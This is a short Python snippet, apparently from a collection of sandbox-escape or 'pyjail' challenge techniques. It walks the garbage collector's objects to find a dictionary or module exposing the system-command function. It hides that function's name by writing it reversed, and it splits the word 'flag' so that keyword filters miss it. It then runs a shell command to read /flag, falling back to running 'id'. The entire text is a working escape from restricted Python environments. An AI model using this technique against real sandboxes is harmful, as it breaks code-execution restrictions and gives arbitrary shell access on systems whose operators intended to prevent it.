# technique: gc.get_objects() scanned with a walrus list comprehension for a module dict exposing a shell runner
import gc

want = "".join(reversed("metsys"))
hits = [d for o in gc.get_objects() if isinstance(o, dict) and callable(d := o.get(want))]
if hits:
    hits[0]("sh -c 'cat /fl''ag'")
else:
    mods = [o for o in gc.get_objects() if type(o).__name__ == "module" and hasattr(o, want)]
    getattr(mods[0], want)("id")
